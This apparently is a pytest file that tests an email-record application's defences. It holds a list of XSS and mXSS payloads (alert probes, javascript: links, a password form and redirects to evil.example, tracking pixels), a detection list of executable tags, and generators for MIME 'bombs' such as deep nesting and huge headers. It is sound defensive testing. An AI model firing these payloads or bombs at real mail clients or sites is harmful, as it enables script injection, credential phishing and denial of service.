"""Hostile mail on its whole way: from the mailbox to the record, and from there to the pane."""

import base64
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import pytest

from tests.conftest import Control, Someone, mime
from tests.steps import SHARED_MAIL, SUPPORT, contact, item_of, save_of, with_files

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<a href="javascript:alert(1)">x</a><a href="  jAvA\tscript:alert(1)">x</a><a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<div style="background:url(https://track.example/p.gif);width:expression(alert(1))">x</div>',
    '<img src="https://track.example/p.gif"><img srcset="https://track.example/p.gif 1x">',
    '<form action="https://evil.example"><input name=password></form><button formaction="javascript:x">x</button>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>',
    '<link rel=stylesheet href="https://evil.example"><style>@import "https://evil.example"</style>',
    "<body onload=alert(1)><details open ontoggle=alert(1)><video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
    "<table background='javascript:alert(1)'><td background=javascript:alert(1)></table>",
    "<scr<script>ipt>alert(1)</scr</script>ipt><<script>alert(1)//<</script>",
]
RUNS = {
    "script",
    "svg",
    "math",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "meta",
    "base",
    "link",
    "style",
}
RUNS |= {"template", "noscript", "video", "audio", "source", "frame", "frameset", "applet", "xmp", "textarea"}


@pytest.fixture
def record(ana: Someone) -> dict[str, Any]:
    return contact(ana)


@pytest.fixture
def shown(ben: Someone, control: Control, record: dict[str, Any], work: Any) -> Any:
    """Save a message and give (the save, the email as the pane gets it)."""

    def save(raw: bytes) -> tuple[dict[str, Any], dict[str, Any]]:
        [asked] = ben.save(item_of(control.deliver(SUPPORT, raw), SUPPORT), record)
        work()
        email = ben.emails(record)[0]
        return save_of(ben, asked), ben.get(f"/api/records/local/contact/{record['id']}/emails/{email['id']}")

    return save


class Executable(HTMLParser):
    """Finds what could run, load or send something."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in RUNS:
            self.found.append(tag)
        for name, value in attrs:
            word = "".join((value or "").lower().split())
            if name.startswith("on") or name in ("srcset", "srcdoc", "formaction", "background", "action"):
                self.found.append(name)
            if name in ("href", "src") and word.startswith(("javascript:", "vbscript:", "data:text")):
                self.found.append(word)
            if (name == "src" and word.startswith("http")) or (name == "style" and ("url(" in word or "expr" in word)):
                self.found.append(word)


def executable(html: str) -> list[str]:
    parser = Executable()
    parser.feed(html)
    return parser.found


def test_hostile_html_comes_back_harmless(shown: Any) -> None:
    html = "".join(f"<p>before {n}</p>{each}<p>after {n}</p>" for n, each in enumerate(HOSTILE))
    for content in (html, *HOSTILE[:6]):
        raw = with_files(html=content, message_id=f"<{hash(content)}@adatum.example>")
        assert executable(content)
        save, email = shown(raw)
        assert save["state"] == "saved"
        assert executable(email["html"] or "") == []
        assert "track.example" not in (email["html"] or "")


def test_ordinary_text_survives_the_cleaning(shown: Any) -> None:
    _, email = shown(with_files(html="<p>Dear <b>Ben</b>,</p><ul><li>one</li></ul><script>alert(1)</script>"))
    assert email["html"].startswith("<p>Dear <b>Ben</b>,</p>")
    assert email["text"].strip() == "See the files."


def bombs() -> Iterator[tuple[str, bytes]]:
    def headed(rest: bytes) -> bytes:
        return (
            b"From: a@adatum.example\r\nSubject: Bomb\r\nMessage-ID: <bomb@adatum.example>\r\nMIME-Version: 1.0\r\n"
            + rest
        )

    deep = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) for n in range(400))
    yield "a multipart 400 deep", headed(deep + b"Content-Type: text/plain\r\n\r\nx")
    many = b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n" * 3000
    yield "3,000 parts", headed(b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n' + many + b"--b--\r\n")
    nested = b"Content-Type: message/rfc822\r\n\r\n" * 200
    yield "messages 200 deep", headed(nested + b"Subject: inner\r\n\r\nx")
    yield "a header of 1 MB", headed(b"X-Long: " + b"x" * 1_000_000 + b"\r\nContent-Type: text/plain\r\n\r\nx")
    yield "100,000 nested divisions", headed(b"Content-Type: text/html\r\n\r\n" + b"<div>" * 100_000)


@pytest.mark.parametrize(("what", "raw"), list(bombs()), ids=[what for what, _ in bombs()])
def test_a_bomb_is_saved_and_does_no_harm(shown: Any, ben: Someone, record: Any, what: str, raw: bytes) -> None:
    save, email = shown(raw)
    assert save["state"] in ("saved", "partial")
    assert email["subject"] == "Bomb"
    assert email["mimeSize"] == len(raw)
    if "deep" in what or "parts" in what:
        assert email["note"]
    if "divisions" in what:
        assert email["htmlNote"]
    path = f"/api/records/local/contact/{record['id']}/emails/{email['id']}"
    began = time.thread_time()
    ben.get(path)
    assert time.thread_time() - began < 1
    assert ben.raw("GET", f"{path}/mime").data == raw


def test_a_bomb_does_not_keep_others_from_being_saved(ben: Someone, control: Control, record: Any, work: Any) -> None:
    for raw in (dict(bombs())["a multipart 400 deep"], mime()):
        ben.save(item_of(control.deliver(SUPPORT, raw), SUPPORT), record)
    work()
    assert sorted(each["subject"] for each in ben.emails(record)) == ["Bomb", "Order 4711"]


@pytest.mark.parametrize(
    "raw",
    [
        mime(subject="a\x00b"),
        mime(subject="=?utf-8?b?7aCA?="),
        mime(subject="=?x-unknown?q?a?="),
        mime(subject="x" * 10_000),
        mime(sender="a\x00b@adatum.example"),
        mime(headers="Date: Mon, 99 Foo 99999 99:99:99 +9999"),
        mime(body="\x00\x00\ud800".encode("utf-8", "surrogatepass").decode("latin-1")),
        b"Subject: nothing else\r\n\r\n",
        b"",
        b"\x00\xff" * 100,
        mime().replace(b"text/plain", b"text/html; charset=x-user-defined"),
        mime(body=base64.b64encode(bytes(range(256))).decode()),
    ],
    ids=range(12),
)
def test_odd_mail_is_saved(shown: Any, raw: bytes) -> None:
    save, email = shown(raw)
    assert save["state"] == "saved", save
    assert email["mimeSize"] == len(raw)


@pytest.mark.skipif(not SHARED_MAIL.is_dir(), reason="the sample mail lies beside the project")
def test_every_sample_mail_is_saved_byte_for_byte(ben: Someone, control: Control, record: Any, work: Any) -> None:
    saves: list[tuple[str, dict[str, Any]]] = []
    for path in sorted(SHARED_MAIL.glob("*.eml")):
        item = item_of(control.deliver(SUPPORT, path.read_bytes()), SUPPORT)
        saves += [(path.name, save) for save in ben.save(item, record)]
    work()
    assert len(saves) > 50
    for name, save in saves:
        assert save_of(ben, save)["state"] in ("saved", "partial"), (name, save_of(ben, save)["reason"])
